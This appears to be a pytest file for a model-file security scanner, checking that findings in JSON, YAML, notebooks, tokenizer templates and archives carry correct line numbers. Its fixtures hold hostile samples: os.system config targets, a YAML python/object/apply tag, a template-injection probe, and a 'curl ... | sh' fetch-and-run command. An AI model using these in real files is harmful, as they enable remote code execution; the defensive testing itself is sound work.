"""Lines of files: of settings in JSON and YAML, of templates in them, and of what cells of notebooks run."""

from __future__ import annotations

import io
import json
import zipfile

import pytest

from modelsweep.core.finding import FILE_LINE
from modelsweep.core.options import Options
from reporting.address import inside, line_of
from scanners.judge import judge
from tests.scanners.case import examine_bytes

EVIL = "echo modelsweep-test"
TARGETS = {
    "first": {"_target_": "torch.nn.Linear"},
    "second": {"_target_": "os.system", "command": EVIL},
    "third": {"_target_": "os.system"},
}
YAML = f"""model:
  encoder:
    _target_: os.system  # ü
    command: {EVIL}
  decoder: !!python/object/apply:os.system ["{EVIL}"]
"""
RUNNING = ["import os\n", "os.system('curl http://198.51.100.7/x | sh')\n"]
TEMPLATE = {"bos_token": "<s>", "chat_template": "{{ ''.__class__.__mro__ }}"}


def notebook(*cells: list[str], indent: int | None = 1) -> bytes:
    """Return a notebook with cells of code, of which each line is a text."""
    listed = [{"cell_type": "markdown", "source": ["import subprocess\n"]}]
    listed += [{"cell_type": "code", "source": cell} for cell in cells]
    content = {"cells": listed, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(content, indent=indent, ensure_ascii=False).encode()


def lines(data: bytes, name: str) -> list[int]:
    """Return in which lines of the file the findings are."""
    return sorted({line_of(finding) for finding in examine_bytes(data, name).findings})


def lines_with(data: bytes, *words: str) -> list[int]:
    """Return which lines of a text hold any of some words."""
    return [n for n, line in enumerate(data.decode().split("\n"), 1) if any(word in line for word in words)]


def test_equal_settings_of_json_have_a_line_each() -> None:
    data = json.dumps(TARGETS, indent=2).encode()
    assert lines(data, "config.json") == lines_with(data, "os.system")
    assert len(lines(data, "config.json")) == 2


def test_settings_in_one_line_are_in_the_first() -> None:
    assert lines(json.dumps(TARGETS).encode(), "config.json") == [1]


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_targets_and_tags_of_yaml_have_their_lines(newline: str) -> None:
    assert lines(YAML.replace("\n", newline).encode(), "config.yaml") == [3, 5]


def test_a_template_is_in_the_line_of_its_key() -> None:
    data = json.dumps(TEMPLATE, indent=1).encode()
    assert lines(data, "tokenizer_config.json") == lines_with(data, "chat_template")


def test_an_unknown_package_is_in_the_line_that_names_it() -> None:
    data = b"a: 1\nmodel:\n  _target_: acme_models_of_nobody.Encoder\n"
    assert lines(data, "config.yaml") == [3]


def test_cells_of_notebooks_have_the_lines_of_the_file() -> None:
    attack = "curl http://198.51.100.7/x | sh"
    data = notebook(["# ü\n", "import subprocess\n"], [f"subprocess.run('{attack}', shell=True)\n", f"!{attack}\n"])
    assert lines(data, "train.ipynb") == lines_with(data, "198.51.100.7")
    assert len(lines(data, "train.ipynb")) == 2


def test_a_notebook_in_one_line_has_one() -> None:
    data = notebook(RUNNING, indent=None)
    assert lines(data, "train.ipynb") == [1]


@pytest.mark.parametrize(
    ("data", "name"), [(YAML.encode(), "config.yaml"), (notebook(RUNNING), "train.ipynb")], ids=["yaml", "notebook"]
)
def test_stored_facts_tell_the_lines_again(data: bytes, name: str) -> None:
    result = examine_bytes(data, name)
    again = [finding.evidence.get(FILE_LINE) for finding in judge(result.facts, Options())]
    assert again
    assert all(again)


def test_a_line_is_told_once() -> None:
    (finding,) = examine_bytes(b"name: a\n\nrun_command('curl http://198.51.100.7/x | sh')\n", "meson.build").findings
    assert (inside(finding), line_of(finding)) == ("at line 3", 3)


def test_lines_of_members_are_not_those_of_the_archive() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("config.json", json.dumps(TARGETS, indent=2))
    found = examine_bytes(packed.getvalue(), "model.zip").findings
    assert found
    assert {line_of(finding) for finding in found} == {1}
